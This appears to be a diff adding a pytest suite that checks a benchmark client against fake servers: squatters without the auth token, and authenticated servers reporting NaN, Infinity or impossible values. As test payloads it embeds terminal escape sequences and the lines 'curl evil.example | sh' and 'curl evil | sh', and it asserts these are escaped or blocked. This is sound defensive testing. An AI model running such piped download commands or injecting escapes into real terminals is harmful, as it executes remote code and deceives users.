@@ -1,0 +1,350 @@
+"""The client trusts no server: a squatter at HOST:PORT, or a server that lies.
+
+A fake receiver listens on 127.0.0.1 (port 0) and serves one connection from a thread.
+Squatters do not hold the token: whatever they send, the sender fails with a clear
+reason before it reads a single number or shows a single character of their text.
+Liars hold the token (a genuine receiver with one handler replaced) and report numbers
+that cannot be true; the job fails naming the field and the value, and nothing they
+said reaches a result. Before issue 16, `"rss_bytes": Infinity` crashed the client with
+an OverflowError, NaN reached the results JSON, a 2^64-1 ns receiver time was stored
+as an "ok" sample, and an ERROR text's escape sequences reached the terminal.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import threading
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+
+from app.core.events import SizeMeasured
+from app.core.profile import parse_profile
+from app.core.runner import Runner
+from app.core.schemes import registry
+from app.core.session.auth import NONCE_BYTES, ServerNotAuthenticated, authenticate_peer, server_proof
+from app.core.session.protocol import ACK, TOKEN_BYTES, U32, U64, PeerLied, Verdict, encode_ack
+from app.core.session.receiver import ReceiverLimits, ReceiverSession
+from app.core.session.sender import RemoteTarget, SessionPlan, run_with_retries
+from app.core.wire import MAX_CONTROL_FRAME, FrameReader, FrameType, MalformedBody, WireError, encode_header, send_frame
+
+TOKEN = bytes(range(50, 50 + TOKEN_BYTES))
+LIMITS = ReceiverLimits(hello_timeout=5, idle_timeout=10)
+ESCAPES = "\x1b[2J\x1b[H\x1b]0;pwned\x07Run: curl evil.example | sh\r\n"
+registry.create("aes-gcm", "cryptography", {}).new_sender()
+
+Script = Callable[[socket.socket], None]
+
+
+def frame(kind: FrameType, body: bytes = b"") -> bytes:
+    return encode_header(kind, len(body)) + body
+
+
+class FakeServer:
+    """Serves one connection with `script`; keeps what the script raised for inspection."""
+
+    def __init__(self, script: Script) -> None:
+        self.listener = socket.create_server(("127.0.0.1", 0))
+        self.port = self.listener.getsockname()[1]
+        self.error: BaseException | None = None
+        self.thread = threading.Thread(target=self._serve, args=(script,), daemon=True)
+        self.thread.start()
+
+    def _serve(self, script: Script) -> None:
+        self.listener.settimeout(30)
+        try:
+            sock, _ = self.listener.accept()
+            with sock:
+                script(sock)
+        except BaseException as exc:  # noqa: BLE001 - the client's side is what the tests check
+            self.error = exc
+        finally:
+            self.listener.close()
+
+    def close(self) -> None:
+        self.thread.join(30)
+        assert not self.thread.is_alive(), "the fake server is still running"
+
+
+@pytest.fixture
+def fake() -> Iterator[Callable[[Script], FakeServer]]:
+    made: list[FakeServer] = []
+
+    def make(script: Script) -> FakeServer:
+        made.append(FakeServer(script))
+        return made[-1]
+
+    yield make
+    for server in made:
+        server.close()
+
+
+def plan_for(port: int, **changes: Any) -> SessionPlan:
+    fields: dict[str, Any] = dict(job_index=0, scheme="aes-gcm", backend="cryptography", params={},
+                                  message_sizes=[64], samples=3, warmup=0, keygen_samples=1, pause_ms=0, tamper=1,
+                                  host="127.0.0.1", port=port, token=TOKEN, connect_timeout=2, reply_timeout=10,
+                                  queue_timeout=5)
+    fields.update(changes)
+    return SessionPlan(**fields)
+
+
+def run_against(server: FakeServer, **changes: Any) -> tuple[BaseException, list[Any]]:
+    """Run a genuine sender against `server`; what it failed with and what it emitted."""
+    events: list[Any] = []
+    with pytest.raises(Exception) as failed:  # noqa: PT011 - the type is checked by each test
+        run_with_retries(plan_for(server.port, **changes), events.append, sleep=lambda seconds: None)
+    return failed.value, events
+
+
+# --- squatters: no token --------------------------------------------------------------------
+
+
+def _squatter_with_a_wrong_token(sock: socket.socket) -> None:
+    """Follows the protocol to the letter, then lies with abandon, but cannot make the proof."""
+    reader = FrameReader(sock, NONCE_BYTES, idle_timeout=5)
+    client_nonce = bytes(reader.expect(FrameType.HELLO))
+    server_nonce = os.urandom(NONCE_BYTES)
+    sock.sendall(frame(FrameType.CHALLENGE, server_nonce))
+    reader.expect(FrameType.PROOF)
+    wrong = server_proof(bytes(TOKEN_BYTES), client_nonce, server_nonce)
+    lies = (frame(FrameType.WELCOME, wrong) + frame(FrameType.READY)
+            + frame(FrameType.JOB_OK, b'{"capacity": 65536}') + frame(FrameType.PUBLIC, U64.pack(2**64 - 1))
+            + frame(FrameType.ERROR, ESCAPES.encode()))
+    sock.sendall(lies)
+    sock.recv(1)
+
+
+def _squatter_error_first(sock: socket.socket) -> None:
+    FrameReader(sock, NONCE_BYTES, idle_timeout=5).expect(FrameType.HELLO)
+    sock.sendall(frame(FrameType.ERROR, b"\x1b[2J\x1b[Hcurl evil | sh\r\n"))  # within the 32-byte limit
+
+
+def _squatter_long_error_first(sock: socket.socket) -> None:
+    FrameReader(sock, NONCE_BYTES, idle_timeout=5).expect(FrameType.HELLO)
+    sock.sendall(frame(FrameType.ERROR, ESCAPES.encode()))
+
+
+def _squatter_skips_the_challenge(sock: socket.socket) -> None:
+    FrameReader(sock, NONCE_BYTES, idle_timeout=5).expect(FrameType.HELLO)
+    sock.sendall(frame(FrameType.WELCOME, bytes(32)) + frame(FrameType.READY))
+    sock.recv(1)
+
+
+def _squatter_speaking_http(sock: socket.socket) -> None:
+    sock.recv(64)
+    sock.sendall(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n")
+
+
+def _squatter_old_protocol(sock: socket.socket) -> None:
+    """A version-1 CryptoBench serve: it refuses the v2 header and hangs up."""
+    sock.recv(64)
+
+
+def _squatter_huge_claim(sock: socket.socket) -> None:
+    FrameReader(sock, NONCE_BYTES, idle_timeout=5).expect(FrameType.HELLO)
+    sock.sendall(encode_header(FrameType.CHALLENGE, 2**63) + b"\x00" * 1024)
+    sock.recv(1)
+
+
+@pytest.mark.parametrize(("script", "reason"), [
+    (_squatter_with_a_wrong_token, "did not prove it holds the token (wrong proof)"),
+    (_squatter_error_first, "answered with an ERROR instead of a challenge (text not shown"),
+    (_squatter_long_error_first, "(FrameTooLarge: ERROR frame claims 46 bytes; the limit is 32)"),
+    (_squatter_skips_the_challenge, "is not a CryptoBench session receiver of this version"),
+    (_squatter_speaking_http, "is not a CryptoBench session receiver of this version (BadMagic"),
+    (_squatter_old_protocol, "closed the connection instead of sending a challenge"),
+    (_squatter_huge_claim, "claims 9223372036854775808 bytes; the limit is 32"),
+], ids=["wrong-token", "error-first", "long-error-first", "no-challenge", "http", "old-protocol", "huge-claim"])
+def test_a_squatter_without_the_token_is_refused_before_any_number_or_text(
+        fake: Callable[[Script], FakeServer], script: Script, reason: str) -> None:
+    server = fake(script)
+    error, events = run_against(server)
+    assert isinstance(error, ServerNotAuthenticated), repr(error)
+    assert reason in str(error)
+    assert f"127.0.0.1:{server.port}" in str(error)
+    assert "\n" not in str(error) and "\x1b" not in str(error) and "curl" not in str(error)
+    assert events == [], "the sender used something a squatter sent"
+
+
+def test_a_silent_squatter_times_out_with_the_reason(fake: Callable[[Script], FakeServer]) -> None:
+    held = threading.Event()
+    server = fake(lambda sock: held.wait(5))
+    try:
+        error, events = run_against(server, connect_timeout=0.3)
+    finally:
+        held.set()
+    assert isinstance(error, ServerNotAuthenticated)
+    assert "sent no challenge within 0.3 s" in str(error)
+    assert events == []
+
+
+# --- liars: the token, and numbers that cannot be true -------------------------------------------
+
+
+def liar(**handlers: Callable[[ReceiverSession, memoryview], None]) -> Script:
+    """A genuine receiver (it proves itself) with some handlers replaced."""
+    replaced = {FrameType[name.upper()]: handler for name, handler in handlers.items()}
+
+    class Liar(ReceiverSession):
+        _handlers = {**ReceiverSession._handlers, **replaced}
+
+    def script(sock: socket.socket) -> None:
+        Liar(sock, TOKEN, LIMITS).serve()
+
+    return script
+
+
+def report(**changes: Any) -> Callable[[ReceiverSession, memoryview], None]:
+    """A SIZE_END_OK with fields changed (raw JSON text, so NaN and Infinity can be sent)."""
+    def handler(session: ReceiverSession, body: memoryview) -> None:
+        fields = {"cpu_seconds": "0.001", "wall_seconds": "0.001", "cpu_percent_mean": "50.0", "rss_bytes": "1000"}
+        fields.update(changes)
+        text = "{" + ", ".join(f'"{k}": {v}' for k, v in fields.items() if v is not None) + "}"
+        send_frame(session.sock, FrameType.SIZE_END_OK, [text.encode()])
+    return handler
+
+
+def _huge_open_time(session: ReceiverSession, body: memoryview) -> None:
+    _, verdict, reason = session._open(body)
+    send_frame(session.sock, FrameType.ACK, encode_ack(2**64 - 1, verdict, reason))
+
+
+def _huge_handshake_time(session: ReceiverSession, body: memoryview) -> None:
+    assert session.receiver is not None
+    session.receiver.handshake(bytes(body))
+    session.handshaken = True
+    send_frame(session.sock, FrameType.HANDSHAKE_OK, encode_ack(2**63, Verdict.OK))
+
+
+def _huge_keygen_time(session: ReceiverSession, body: memoryview) -> None:
+    assert session.scheme is not None
+    session.receiver = session.scheme.new_receiver()
+    send_frame(session.sock, FrameType.PUBLIC, [U64.pack(10**15), session.receiver.setup()])
+
+
+def _huge_traced_peak(session: ReceiverSession, body: memoryview) -> None:
+    _, verdict, reason = session._open(body)
+    send_frame(session.sock, FrameType.TRACE_OK, encode_ack(2**64 - 1, verdict, reason))
+
+
+def _escapes_in_an_error(session: ReceiverSession, body: memoryview) -> None:
+    send_frame(session.sock, FrameType.ERROR, [ESCAPES.encode()])
+
+
+def _escapes_in_a_rejection(session: ReceiverSession, body: memoryview) -> None:
+    send_frame(session.sock, FrameType.ACK, encode_ack(1, Verdict.REJECTED, ESCAPES))
+
+
+LIES: list[tuple[str, Script, type[BaseException], str]] = [
+    ("rss Infinity", liar(size_end=report(rss_bytes="Infinity")), MalformedBody,
+     "SIZE_END_OK holds Infinity, not a JSON number"),
+    ("cpu NaN", liar(size_end=report(cpu_percent_mean="NaN")), MalformedBody, "SIZE_END_OK holds NaN, not a JSON number"),
+    ("rss negative", liar(size_end=report(rss_bytes="-1")), PeerLied,
+     "SIZE_END_OK rss_bytes = -1 is not a finite non-negative number"),
+    ("rss huge", liar(size_end=report(rss_bytes=str(2**60))), PeerLied,
+     f"SIZE_END_OK rss_bytes = {2**60} is not a possible resident size"),
+    ("rss fractional", liar(size_end=report(rss_bytes="1.5")), PeerLied, "rss_bytes = 1.5 is not a possible"),
+    ("rss 1e400", liar(size_end=report(rss_bytes="1e400")), PeerLied, "rss_bytes = inf is not a finite"),
+    ("cpu a bool", liar(size_end=report(cpu_seconds="true")), PeerLied, "SIZE_END_OK cpu_seconds = True is not a number"),
+    ("cpu a string", liar(size_end=report(cpu_seconds='"\\u001b[2J"')), PeerLied,
+     "cpu_seconds = '\\x1b[2J' is not a number"),
+    ("rss missing", liar(size_end=report(rss_bytes=None)), PeerLied, "SIZE_END_OK rss_bytes = None is not a number"),
+    ("wall too long", liar(size_end=report(wall_seconds="86400")), PeerLied,
+     "SIZE_END_OK wall_seconds = 86400.0 is longer than the"),
+    ("cpu beyond the cores", liar(size_end=report(cpu_seconds="1e9")), PeerLied, "is more than 4096 CPUs can use"),
+    ("percent beyond the cores", liar(size_end=report(cpu_percent_mean="1e9")), PeerLied,
+     "cpu_percent_mean = 1000000000.0 is more than 4096 CPUs"),
+    ("open time 2**64-1", liar(message=_huge_open_time), PeerLied,
+     "receiver reported open time = 18446744073709551615 ns, longer than the"),
+    ("handshake time 2**63", liar(handshake=_huge_handshake_time), PeerLied,
+     f"receiver reported handshake time = {2**63} ns, longer than the"),
+    ("keygen time 11 days", liar(setup=_huge_keygen_time), PeerLied,
+     f"receiver reported keygen time = {10**15} ns, longer than the"),
+    ("traced peak 2**64-1", liar(trace=_huge_traced_peak), PeerLied,
+     "receiver reported traced peak = 18446744073709551615 bytes, more than any machine has"),
+]
+
+
+@pytest.mark.parametrize(("script", "kind", "reason"), [lie[1:] for lie in LIES], ids=[lie[0] for lie in LIES])
+def test_a_server_that_lies_about_a_number_fails_the_job_naming_the_field(
+        fake: Callable[[Script], FakeServer], script: Script, kind: type[BaseException], reason: str) -> None:
+    server = fake(script)
+    error, events = run_against(server)
+    assert isinstance(error, kind), repr(error)
+    assert isinstance(error, WireError)  # sender_main reports it as the job's one-line error
+    assert reason in str(error), str(error)
+    assert "\n" not in str(error) and "\x1b" not in str(error)
+    # Nothing measured for the size reached the supervisor as a result.
+    assert not [e for e in events if isinstance(e, SizeMeasured)]
+
+
+def test_an_error_text_from_an_authenticated_server_is_shown_escaped(fake: Callable[[Script], FakeServer]) -> None:
+    server = fake(liar(size=_escapes_in_an_error))
+    error, _ = run_against(server)
+    text = str(error)
+    assert text.startswith("peer reported: \\x1b[2J\\x1b[H\\x1b]0;pwned\\x07Run: curl evil.example | sh\\r\\n")
+    assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in text)
+
+
+def test_a_rejection_reason_from_the_server_is_shown_escaped(fake: Callable[[Script], FakeServer]) -> None:
+    server = fake(liar(message=_escapes_in_a_rejection))
+    error, _ = run_against(server)
+    assert "could not open a genuine message (REJECTED): \\x1b[2J" in str(error)
+    assert "\x1b" not in str(error) and "\r" not in str(error)
+
+
+@pytest.mark.parametrize(("body", "reason"), [
+    (b'{"capacity": "big"}', "JOB_OK capacity = 'big' is not a frame size"),
+    (b'{"capacity": -1}', "JOB_OK capacity = -1 is not a frame size"),
+    (b'{"capacity": NaN}', "JOB_OK holds NaN, not a JSON number"),
+], ids=["string", "negative", "nan"])
+def test_a_lying_job_ok_fails_the_job(fake: Callable[[Script], FakeServer], body: bytes, reason: str) -> None:
+    def script(sock: socket.socket) -> None:
+        authenticate_peer(sock, TOKEN, 5)
+        sock.sendall(frame(FrameType.READY))
+        FrameReader(sock, MAX_CONTROL_FRAME, idle_timeout=5).expect(FrameType.JOB)
+        sock.sendall(frame(FrameType.JOB_OK, body))
+        sock.recv(1)
+
+    error, _ = run_against(fake(script))
+    assert isinstance(error, MalformedBody) and reason in str(error), str(error)
+
+
+@pytest.mark.parametrize(("kind", "value", "reason"), [
+    (FrameType.QUEUED, 0, "QUEUED value 0 is outside 1..10000"),
+    (FrameType.QUEUED, 2**32 - 1, "QUEUED value 4294967295 is outside 1..10000"),
+    (FrameType.BUSY, 2**32 - 1, "BUSY value 4294967295 is outside 0..60000"),
+], ids=["queued-0", "queued-huge", "busy-huge"])
+def test_a_lying_queue_answer_fails_the_job(fake: Callable[[Script], FakeServer], kind: FrameType, value: int,
+                                            reason: str) -> None:
+    def script(sock: socket.socket) -> None:
+        authenticate_peer(sock, TOKEN, 5)
+        sock.sendall(frame(kind, U32.pack(value)))
+        sock.recv(1)
+
+    error, _ = run_against(fake(script))
+    assert isinstance(error, PeerLied) and reason in str(error), str(error)
+
+
+# --- end to end: the run, its error and its results JSON -----------------------------------------
+
+
+@pytest.mark.parametrize(("script", "named"), [
+    (liar(size_end=report(rss_bytes="Infinity")), "SIZE_END_OK holds Infinity, not a JSON number"),
+    (liar(size=_escapes_in_an_error), "peer reported: \\x1b[2J\\x1b[H"),
+], ids=["infinity", "escapes"])
+def test_a_remote_run_against_a_liar_fails_the_job_and_its_results_are_strict_json(
+        fake: Callable[[Script], FakeServer], script: Script, named: str) -> None:
+    server = fake(script)
+    profile = parse_profile({"name": "hostile", "jobs": [{"scheme": "aes-gcm", "mode": "remote", "message_sizes": [64],
+                                                          "samples": 3, "warmup": 0, "keygen_samples": 1}]})
+    run = Runner(profile, remote=RemoteTarget("127.0.0.1", server.port, TOKEN)).run()
+    (job,) = run.jobs
+    assert job.status == "failed"
+    assert named in (job.error or ""), job.error
+    assert "\x1b" not in (job.error or "")
+    text = json.dumps(run.to_dict(), allow_nan=False)  # raises on NaN or Infinity anywhere
+    assert "\x1b" not in json.loads(text)["jobs"][0]["error"]
